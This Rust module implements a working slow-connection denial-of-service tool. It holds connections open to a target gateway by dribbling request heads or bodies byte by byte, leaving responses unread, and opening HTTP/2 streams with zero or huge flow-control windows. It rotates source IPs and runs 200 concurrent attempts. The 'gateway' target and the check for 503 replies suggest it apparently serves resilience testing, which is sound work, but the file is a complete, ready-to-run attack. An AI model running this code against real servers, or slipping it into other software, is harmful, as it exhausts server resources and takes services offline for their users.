//! Opens connections that are slow on purpose.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering::Relaxed};
use std::time::Duration;

use clap::ValueEnum;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

/// The interval at which a slow connection sends a byte.
const BYTE_INTERVAL: Duration = Duration::from_secs(2);

/// The number of concurrent connection attempts.
const CONCURRENT_ATTEMPTS: usize = 200;

/// The way in which a connection is slow.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub enum Kind {
    /// Sends a request head byte by byte.
    Head,
    /// Sends a request body byte by byte.
    Body,
    /// Does not read the response.
    Read,
    /// Opens an HTTP/2 stream with a window of 0.
    Window,
    /// Opens 100 HTTP/2 streams with large windows, and does not read the responses from the socket.
    Unread,
}

/// The streams of a connection of [`Kind::Unread`].
const STREAMS: usize = 100;

impl Kind {
    /// Returns the number of connections that have as many requests as `connections` of the other kinds.
    pub fn connections(self, connections: usize) -> usize {
        if matches!(self, Self::Unread) { connections.div_ceil(STREAMS) } else { connections }
    }
}

/// A running attack with slow connections of one kind.
#[derive(Debug)]
pub struct Attack {
    tasks: JoinSet<()>,
    counts: Arc<Counts>,
}

#[derive(Debug, Default)]
struct Counts {
    tried: AtomicUsize,
    open: AtomicUsize,
    ended: AtomicUsize,
}

impl Attack {
    /// Opens `connections` connections, from these addresses in turn. Returns when all have been tried.
    pub async fn start(kind: Kind, gateway: SocketAddr, from: &[IpAddr], connections: usize) -> Self {
        let (mut tasks, counts) = (JoinSet::new(), Arc::<Counts>::default());
        for (index, address) in from.iter().cycle().take(connections).enumerate() {
            while index >= counts.tried.load(Relaxed) + CONCURRENT_ATTEMPTS {
                sleep(Duration::from_millis(1)).await;
            }
            tasks.spawn(hold_connection(kind, gateway, *address, Arc::clone(&counts)));
        }
        while counts.tried.load(Relaxed) < connections {
            sleep(Duration::from_millis(10)).await;
        }
        Self { tasks, counts }
    }

    /// Ends the attack. Returns the number of connections that were open, and of those that were refused or closed.
    pub fn stop(mut self) -> (usize, usize) {
        let counts = (self.counts.open.load(Relaxed), self.counts.ended.load(Relaxed));
        self.tasks.abort_all();
        counts
    }
}

async fn hold_connection(kind: Kind, gateway: SocketAddr, from: IpAddr, counts: Arc<Counts>) {
    let connected = timeout(Duration::from_secs(5), connect(gateway, from)).await;
    counts.tried.fetch_add(1, Relaxed);
    if let Ok(Ok(stream)) = connected {
        counts.open.fetch_add(1, Relaxed);
        _ = stay_slow(kind, stream).await;
        counts.open.fetch_sub(1, Relaxed);
    }
    counts.ended.fetch_add(1, Relaxed);
}

async fn connect(gateway: SocketAddr, from: IpAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // A small buffer, so that it holds little of a response.
    socket.set_recv_buffer_size(4096)?;
    socket.bind((from, 0).into())?;
    socket.connect(gateway).await
}

/// Keeps the connection slow until the server closes it.
async fn stay_slow(kind: Kind, mut stream: TcpStream) -> io::Result<()> {
    match kind {
        Kind::Head => stream.write_all(b"GET / HTTP/1.1\r\nHost: a.example\r\nX-Slow: ").await?,
        Kind::Body => {
            let head = b"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 1000000\r\n\r\n";
            stream.write_all(head).await?;
        }
        Kind::Read => stream.write_all(b"GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n").await?,
        Kind::Window => stream.write_all(&zero_window()).await?,
        Kind::Unread => stream.write_all(&open_windows()).await?,
    }
    let mut response = [0; 256];
    loop {
        let sends_bytes = matches!(kind, Kind::Head | Kind::Body);
        tokio::select! {
            // A connection that does not read notices the close when it checks for errors.
            read = stream.read(&mut response), if !matches!(kind, Kind::Read | Kind::Unread) => {
                if read? == 0 || response.starts_with(b"HTTP/1.1 503") {
                    return Ok(());
                }
            }
            () = sleep(BYTE_INTERVAL) => {
                let error = stream.take_error()?;
                error.map_or(Ok(()), Err)?;
                if sends_bytes {
                    stream.write_all(b"x").await?;
                }
            }
        }
    }
}

/// A preface, SETTINGS with a window of 0 for all streams, and a GET of `/large` (RFC 9113 sections 3.4 and 6).
fn zero_window() -> Vec<u8> {
    let mut bytes = preface(0);
    bytes.extend(get(1, "/large"));
    bytes
}

/// A preface, the largest windows for all streams and the connection, and GETs of `/short`.
fn open_windows() -> Vec<u8> {
    let mut bytes = preface(0x7fff_ffff);
    bytes.extend([0, 0, 4, 8, 0, 0, 0, 0, 0, 0x7f, 0xff, 0, 0]);
    for stream in (1_u32..).step_by(2).take(STREAMS) {
        bytes.extend(get(stream, "/short"));
    }
    bytes
}

/// A preface, and SETTINGS with this window for all streams.
fn preface(window: u32) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend([0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4]);
    bytes.extend(window.to_be_bytes());
    bytes
}

fn get(stream: u32, path: &str) -> Vec<u8> {
    // Indexed: GET, http; literal: the path and the authority.
    let mut fields = vec![0x82, 0x86];
    for (index, value) in [(0x04, path), (0x01, "a.example")] {
        fields.extend([index, u8::try_from(value.len()).unwrap_or_default()]);
        fields.extend(value.as_bytes());
    }
    let mut bytes = vec![0, 0, u8::try_from(fields.len()).unwrap_or_default(), 1, 5];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(fields);
    bytes
}
